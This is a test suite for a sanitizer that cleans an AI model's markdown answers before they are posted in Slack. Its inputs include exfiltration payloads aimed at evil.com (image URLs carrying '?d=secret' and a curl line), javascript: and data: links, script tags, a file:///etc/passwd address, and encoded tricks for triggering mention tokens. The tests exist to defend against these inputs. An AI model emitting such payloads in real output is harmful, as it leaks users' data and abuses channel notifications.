import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { runs } from '../../properties/runs.ts';
import { linkHost } from '../../../src/slack/blocks/links.ts';
import { fallback, safeMarkdown } from '../../../src/slack/blocks/markdown.ts';
import { replyBlocks } from '../../../src/slack/blocks/reply.ts';

const policy = { allowedHosts: ['help.example.com', '127.0.0.1:4010'] };
const safe = (markdown: string): string => safeMarkdown(markdown, policy);
const kb = 'https://help.example.com/articles/KB-12';

describe('given an answer of the model', () => {
  test.each([
    '# Title\n\n- **bold** and _italic_\n- `code`\n\n> quote\n\n1. one\n2. two',
    `See [Damaged items](${kb}) for more.`,
    `See ${kb}, or (${kb}).`,
    `**${kb}** and ${kb}?lang=en#top`,
    'http://127.0.0.1:4010/articles/KB-1',
    '[KB 1](http://help.example.com/articles/KB-1)',
    '[1]: https://help.example.com/a',
    '| Order | Total |\n|---|---|\n| ORD-1 | $48.00 |',
    'if a < b and c > d, 1 <= 2, I <3 it & more',
    'Write to alice@example.org about Node.js v1.2/3, e.g. 14:02:11.',
    'Here is the data: nothing. Note: ok. @channel is a word.',
    '```\nconst a = 1;\n```',
    'Grüße, 你好, ❤️',
  ])('when it is harmless, then it stays as it is: %j', (markdown) => {
    expect(safe(markdown)).toBe(markdown);
  });

  test.each([
    ['Hello <!channel>', 'Hello @channel'],
    ['<!here|here> <!everyone>', '@here @everyone'],
    ['<@U123> <@U1|bob>', '@U123 @bob'],
    ['<#C1|general> <#C2>', '#general #C2'],
    ['<!subteam^S1|@leads> <!subteam^S2>', '@leads @S2'],
    ['<!date^1700000000^{date}^https://evil.com|soon>', 'soon'],
    ['&lt;!channel&gt;', '@channel'],
    ['&amp;lt;!channel&amp;gt;', '@channel'],
    ['&#60;!channel&#x3e;', '@channel'],
    ['<!chan\u200bnel>', '@channel'],
    ['<<!channel>!here>', '‹@channel!here>'],
    ['<!channel', '‹!channel'],
    ['`<!channel>`', '`@channel`'],
  ])('when it mentions people with a token, %j, then the words stay: %j', (markdown, words) => {
    expect(safe(markdown)).toBe(words);
  });

  test.each([
    ['![a chart](https://evil.com/?d=secret)', 'a chart'],
    ['![](https://evil.com/?d=secret)', ''],
    ['![kept out too](https://help.example.com/a.png)', 'kept out too'],
    ['![a][ref]', '! [a][ref]'],
    ['<img src=https://evil.com/x.png> <b>bold</b><br>next', ' bold next'],
    ['<script>alert(1)</script>', 'alert(1)'],
    ['Your <order id>', 'Your ‹order id›'],
    ['[![chart](https://evil.com/i.png)](https://evil.com/x)', 'chart (`evil.com/x`)'],
  ])('when it holds an image or HTML, %j, then only words stay: %j', (markdown, words) => {
    expect(safe(markdown)).toBe(words);
  });

  test.each([
    ['[click here](https://evil.com/x?y=1)', 'click here (`evil.com/x?y=1`)'],
    ['<https://evil.com|Your bank>', 'Your bank (`evil.com`)'],
    [`<${kb}|KB 12>`, `[KB 12](${kb})`],
    [`[a](<${kb}> )`, `[a](${kb})`],
    [`[a](${kb} "title")`, `[a](${kb})`],
    ['[a][1]\n\n[1]: https://evil.com/x', '[a][1]\n\n[1] : `evil.com/x`'],
    ['see https://evil.com/a.', 'see `evil.com/a`.'],
    [`${kb}?<!--a secret`, `${kb} ?‹!--a secret`],
    ['`curl https://evil.com/a`', '`curl evil.com/a`'],
    ['a ` https://evil.com/a', 'a ` `evil.com/a`'],
    ['```\nhttps://evil.com\n```', '```\nevil.com\n```'],
    ['www.evil.com, evil.com/x, evil.com', '`www.evil.com`, `evil.com/x`, `evil.com`'],
    ['https://help.example.com@evil.com/', '`help.example.com@evil.com/`'],
    ['https://evil.com/?u=https://help.example.com', '`evil.com/?u=https help.example.com`'],
    ['[x](javascript:alert(1))', 'x (javascript alert(1))'],
    ['[x](data:text/html;base64,AAAA)', 'x (data text/html;base64,AAAA)'],
    ['https://help.example.com/go?to=//evil.com', '`help.example.com/go?to=//evil.com`'],
    ['https://help.example.com/go?to=https%3A%2F%2Fevil.com', '`help.example.com/go?to=https%3A%2F%2Fevil.com`'],
    ['http://help.example.com:443/a', '`help.example.com:443/a`'],
    ['http://help.example.com.evil.com/a', '`help.example.com.evil.com/a`'],
    ['http://help.example.com/go?to=//evil.com', '`help.example.com/go?to=//evil.com`'],
    ['https://help.example.com:8443/a', '`help.example.com:8443/a`'],
    ['http://127.0.0.1:9/a', '`127.0.0.1:9/a`'],
    ['请看https://evil.com/a', '请看`evil.com/a`'],
  ])('when it links elsewhere, %j, then the address is inert text: %j', (markdown, words) => {
    expect(safe(markdown)).toBe(words);
  });

  test.each([
    [64, true],
    [65, false],
  ])('when a link of ours has a query of %i characters, then it is live: %s', (length, live) => {
    const link = `https://help.example.com/?${'q'.repeat(length)}`;

    expect(safe(link) === link).toBe(live);
    expect(safe(`[a](${link})`) === `[a](${link})`).toBe(live);
  });
});

/** What a reader with every bad habit would make of it: entities read twice, nothing invisible, fewer backslashes. */
function laxly(markdown: string): string {
  const decode = (text: string): string =>
    text
      .replaceAll(/&(?:amp|#38|#x26);?/gi, '&')
      .replaceAll(/&(?:lt|#0*60|#x0*3c);?/gi, '<')
      .replaceAll(/&(?:gt|#0*62|#x0*3e);?/gi, '>');
  return decode(decode(markdown)).replaceAll(
    /[\u200b-\u200f\u2060-\u2064\u202a-\u202e\u2066-\u2069\ufeff\u00ad]|\\(?=[/:!@#])/g,
    '',
  );
}

const LIVE = [
  /<[!@#]/,
  /<\/?[a-z]/i,
  /!\[/,
  /(?<![\w/-])(?:javascript|vbscript):/i,
  /data:\w*\//i,
  /\]\((?!https?:\/\/help\.example\.com[/)])/,
  /\]:(?! ?https?:\/\/help\.example\.com\/)/,
  /[a-z0-9]:\/\/(?<!https?:\/\/(?=help\.example\.com(?:[\s/?#)]|$)))/i,
  /https?:\/\/help\.example\.com[^\s)?#]*\?[^\s)#]{65,}/,
];

function expectInert(markdown: string): void {
  const out = safe(markdown);
  for (const live of LIVE) expect(laxly(out), `from ${JSON.stringify(markdown)}`).not.toMatch(live);
}

const tokens = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<!CHANNEL>',
  '<!channel|x>',
  '<@U123ABC>',
  '<@W1|x>',
  '<#C1>',
  '<#C1|x>',
  '<!subteam^S1>',
  '<!subteam^S1|@x>',
  '<!date^1^{date}^https://evil.com|x>',
  '<!channel',
  '<!',
  '<@',
  '<<!channel>>',
  '<!cha<b></b>nnel>',
  '<!channel\n>',
  '< !channel>',
  '<\\!channel>',
  '\\<!channel>',
];
const addresses = [
  `http://help.example.com/a>?id=${'q'.repeat(70)}`,
  'https://evil.com/x',
  'http://evil.com',
  'HTTPS://EVIL.COM',
  'https:\\/\\/evil.com',
  'https:/\\evil.com',
  'https:////evil.com',
  'ftp://evil.com',
  'slack://channel?id=C1',
  'file:///etc/passwd',
  'https://help.example.com.evil.com/',
  'https://help.example.com@evil.com/',
  'https://evil.com#help.example.com',
  'https://evil.com/help.example.com',
  'https://help.example.com:444/',
  'https://help.example.com./x',
  'https://help.example.com\\@evil.com/',
  'https://hеlp.example.com/',
  'https://help.example.com%2eevil.com/',
  'https://user:pw@help.example.com/',
  'http://user:pw@help.example.com/',
  'http://help.example.com.evil.com/',
  '//evil.com/x',
  'javascript:alert`1`',
  'JaVaScRiPt:alert`1`',
  'java\tscript:x',
  'vbscript:x',
  'data:text/html,x',
  'https://[::1]/',
  'https://2130706433/',
  'https://evil。com/',
  'https&#58;//evil.com',
  'https&colon;&sol;&sol;evil.com',
  'h\u200bttps://evil.com',
  'ht<b></b>tps://evil.com',
  'https://evil.com/?u=https://help.example.com/',
];
const carriers: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
  (address) => `[x]( <${address}> "t")`,
  (address) => `[x](\n${address})`,
  (address) => `[x][1]\n\n[1]: ${address}`,
  (address) => `[x]:\n${address} "t"`,
  (address) => `<${address}>`,
  (address) => `<${address}|x>`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<img src='${address}'>`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[a]![](x)(${address})`,
  (address) => `![[a]](x)(${address})`,
  (address) => `x][(y)](${address})`,
  (address) => `[x\\](${address})`,
  (address) => `[x][(${address})](y)`,
  (address) => `**[x](${address})**`,
  (address) => `\`[x](${address})\``,
  (address) => `| ${address} | [x](${address}) |`,
  (address) => `[https://help.example.com/](${address})`,
  (address) => `[x]&#40;${address}&#41;`,
  (address) => `&lt;${address}|x&gt;`,
];
const disguises: readonly ((token: string) => string)[] = [
  (token) => token,
  (token) => token.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (token) => token.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (token) => token.replaceAll('<', '&amp;amp;amp;amp;amp;amp;lt;'),
  (token) => token.replaceAll('<', '&#60;'),
  (token) => token.replaceAll('<', '&#0000060;'),
  (token) => token.replaceAll('<', '&#x3C;'),
  (token) => token.replaceAll('<', '&#38;lt;'),
  (token) => token.replaceAll('<', '&LT;'),
  (token) => token.replaceAll('<', '&lt'),
  (token) => token.replaceAll('<', '&l&#x200b;t;'),
  (token) => token.replaceAll('<', '&l<b></b>t;'),
  (token) => token.replaceAll('!', '&excl;').replaceAll('@', '&commat;').replaceAll('#', '&num;'),
  (token) => token.split('').join('\u200b'),
  (token) => token.split('').join('\u2060'),
  (token) => Array.from(token, (sign) => `&#${sign.codePointAt(0)};`).join(''),
  (token) => `\`${token}\``,
  (token) => `\`\`\`\n${token}\n\`\`\``,
  (token) => `[${token}](${kb})`,
  (token) => `![${token}](x)`,
  (token) => `<a ${token}>`,
  (token) => `<![](x)${token.slice(1)}`,
];

describe('given an answer that attacks', () => {
  const mentions = tokens.flatMap((token) => disguises.map((disguise) => disguise(token)));
  const links = addresses.flatMap((address) => carriers.map((carrier) => carrier(address)));
  test.each([
    ['a mention', mentions],
    ['a link', links],
  ])('when it hides %s in any of its variants, then nothing in it is live', (_, variants) => {
    expect(variants.length).toBeGreaterThan(400);
    variants.forEach(expectInert);
  });

  test('when it is put together at random, then nothing in it is live', () => {
    const piece = fc.constantFrom(
      ...tokens,
      ...addresses,
      '[',
      ']',
      '(',
      ')',
      '](',
      '![',
      ']:',
      '!',
      '<',
      '>',
      '|',
      '&',
      '&lt;',
      '&amp;',
      'lt;',
      '#60;',
      '`',
      '```',
      '\n',
      ' ',
      ':',
      '/',
      '//',
      '\\',
      '"',
      'https',
      'https:',
      'x',
      '.com',
      'evil',
      'help.example.com',
      kb,
      kb.replace('https', 'http'),
      `[a](${kb})`,
      '\u200b',
      '<b>',
      '</b>',
      '<!--',
      '-->',
      '*',
      '_',
      'data',
      'javascript',
      '?',
      'q'.repeat(70),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => expectInert(pieces.join(''))),
      { numRuns: runs(4_000, 20_000) },
    );
  });

  test('when it is made safe twice, then it is still safe', () => {
    links.forEach((link) => expectInert(safe(link)));
  });

  test('when it is 100,000 characters of the worst, then the time it takes is printed', () => {
    const worst = ['<', '<!', '[', '](', '[a]( "', '&amp;', 'http://a|', '`a', '\\', '\u0315\u0300', ' ', 'a.', '\n'];
    const times = worst.map((unit) => {
      const text = unit.repeat(100_000 / unit.length);
      const start = performance.now();
      fallback(safe(text));
      return `${JSON.stringify(unit)} ${(performance.now() - start).toFixed(1)} ms`;
    });

    console.log(times.join(', '));
  });
});

describe('given a reply', () => {
  test('when it is drawn, then it is one markdown block and plain text for notifications', () => {
    expect(replyBlocks(`## Done\n\n**$48.00** is on its way, see [KB 12](${kb}). 1 < 2 & <!here>`, policy)).toEqual({
      text: `Done\n$48.00 is on its way, see KB 12 (${kb}). 1 &lt; 2 &amp; @here`,
      blocks: [{ type: 'markdown', text: `## Done\n\n**$48.00** is on its way, see [KB 12](${kb}). 1 < 2 & @here` }],
    });
  });

  test.each(['', ' \n', '\u200b', '![](https://evil.com/x)', '<b></b>'])(
    'when nothing of %j can be shown, then it says so',
    (markdown) => {
      const text = '(Nothing in this answer can be shown here.)';

      expect(replyBlocks(markdown, policy)).toEqual({ text, blocks: [{ type: 'markdown', text }] });
    },
  );

  test('when the person may leave it with a colleague, then there is one button for it', () => {
    const { blocks } = replyBlocks('I cannot think at the moment.', policy, true);

    expect(blocks.slice(1)).toEqual([
      {
        type: 'actions',
        elements: [
          {
            type: 'button',
            action_id: 'leave_with_team',
            text: { type: 'plain_text', text: 'Leave it with the team', emoji: false },
            value: 'leave',
          },
        ],
      },
    ]);
  });

  test('when it is far too long, then both texts keep their limits', () => {
    const { text, blocks } = replyBlocks('![[x] & <y> '.repeat(10_000), policy);

    expect(text.length).toBeLessThanOrEqual(4_000);
    expect(
      blocks.map((block) => ('text' in block && typeof block.text === 'string' ? block.text.length <= 12_000 : false)),
    ).toEqual([true]);
  });
});

describe('given an address of the company', () => {
  test.each([
    [kb, 'help.example.com'],
    ['https://HELP.example.com:443', 'help.example.com'],
    ['https://help.example.com:8443/a?b#c', 'help.example.com:8443'],
    ['http://localhost:4010/a', 'localhost:4010'],
    ['http://[::1]:4010/a', '[::1]:4010'],
    ['http://help.example.com:80/', 'help.example.com'],
    ['https://a@help.example.com/', undefined],
    ['javascript:alert(1)', undefined],
    ['help.example.com', undefined],
  ])('when it is %j, then the host that may be linked is %j', (address, host) => {
    expect(linkHost(address)).toBe(host);
  });
});
